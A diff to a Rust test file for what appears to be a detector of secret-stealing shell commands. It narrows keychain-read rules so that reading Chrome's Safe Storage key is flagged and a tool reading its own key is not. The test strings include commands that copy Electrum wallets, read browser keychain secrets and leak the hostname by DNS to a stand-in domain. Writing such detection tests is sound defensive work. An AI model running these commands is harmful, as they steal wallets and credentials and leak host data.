@@ -284,13 +284,17 @@ fn either_half_alone_is_at_most_a_warning_and_usually_nothing() {
         [R]
     );
     assert_eq!(only("cp -r ~/.electrum/wallets /tmp/w"), [R]);
-    assert_eq!(only("security find-generic-password -s my-tool -w"), [R]);
-    // The tool's own key, sent to its service in a header.
     assert_eq!(
+        only("security find-generic-password -s \"Chrome Safe Storage\" -w"),
+        [R]
+    );
+    // The tool's own item, read alone or sent to its service in a header.
+    assert!(only("security find-generic-password -s my-tool -w").is_empty());
+    assert!(
         only(
             "KEY=$(security find-generic-password -s acme -w)\ncurl -H \"Authorization: Bearer $KEY\" -d '{}' https://api.acme.example/v1"
-        ),
-        [R]
+        )
+        .is_empty()
     );
     assert_eq!(only("dig $(hostname).x.example.net"), [S]);
     // A file that is not secret, sent to a request catcher: an upload, which counts only
